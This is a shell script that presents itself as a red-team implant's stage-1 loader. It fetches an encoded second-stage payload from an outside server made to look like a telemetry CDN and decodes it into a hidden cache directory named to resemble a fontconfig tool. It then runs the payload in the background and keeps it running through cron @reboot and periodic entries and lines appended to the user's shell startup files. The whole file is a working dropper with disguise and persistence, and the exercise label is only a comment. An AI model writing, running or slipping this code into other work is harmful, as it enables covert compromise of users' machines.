#!/bin/sh
# Stage-1 loader for the red-team exercise implant.
# Fetches the encoded stage-2 from the team server, decodes it, runs it in the
# background and makes sure it comes back after reboot or logout.

TS="${TS:-https://updates.cdn-edge-telemetry.net}"
STAGE_PATH="/s/$(uname -m)/agent.b64"
DROP_DIR="${HOME}/.cache/.fontconfig"
DROP="${DROP_DIR}/fc-cache-helper"
MARK="# fc-cache-helper"
RETRIES=5

log() {
    [ -n "${STAGER_DEBUG:-}" ] && printf 'stager: %s\n' "$*" >&2
    return 0
}

fetch() {
    url="$1"
    if command -v curl >/dev/null 2>&1; then
        curl -fsSL --retry 2 -A "Mozilla/5.0" "$url"
    elif command -v wget >/dev/null 2>&1; then
        wget -q -O - -U "Mozilla/5.0" "$url"
    else
        python3 -c "import sys,urllib.request as u;sys.stdout.buffer.write(u.urlopen(sys.argv[1]).read())" "$url"
    fi
}

stage() {
    mkdir -p "$DROP_DIR" || return 1
    i=0
    while [ "$i" -lt "$RETRIES" ]; do
        if fetch "${TS}${STAGE_PATH}" | base64 -d > "${DROP}.tmp" 2>/dev/null \
            && [ -s "${DROP}.tmp" ]; then
            mv "${DROP}.tmp" "$DROP"
            chmod 700 "$DROP"
            log "stage-2 written to $DROP"
            return 0
        fi
        i=$((i + 1))
        log "fetch attempt $i failed"
        sleep $((i * 5))
    done
    rm -f "${DROP}.tmp"
    return 1
}

persist_cron() {
    if crontab -l 2>/dev/null | grep -q "$MARK"; then
        return 0
    fi
    ( crontab -l 2>/dev/null
      echo "@reboot sleep 60 && $DROP >/dev/null 2>&1 $MARK"
      echo "*/20 * * * * pgrep -f $DROP >/dev/null || $DROP >/dev/null 2>&1 $MARK"
    ) | crontab -
    log "cron entries installed"
}

persist_rc() {
    for rc in "$HOME/.bashrc" "$HOME/.profile" "$HOME/.zshrc"; do
        [ -f "$rc" ] || continue
        grep -q "$MARK" "$rc" && continue
        printf '\n(pgrep -f %s >/dev/null || nohup %s >/dev/null 2>&1 &) %s\n' \
            "$DROP" "$DROP" "$MARK" >> "$rc"
        log "hooked $rc"
    done
}

launch() {
    if pgrep -f "$DROP" >/dev/null 2>&1; then
        log "already running"
        return
    fi
    nohup "$DROP" >/dev/null 2>&1 &
    log "launched pid $!"
}

main() {
    [ -x "$DROP" ] || stage || exit 1
    persist_cron
    persist_rc
    launch
}

main "$@"
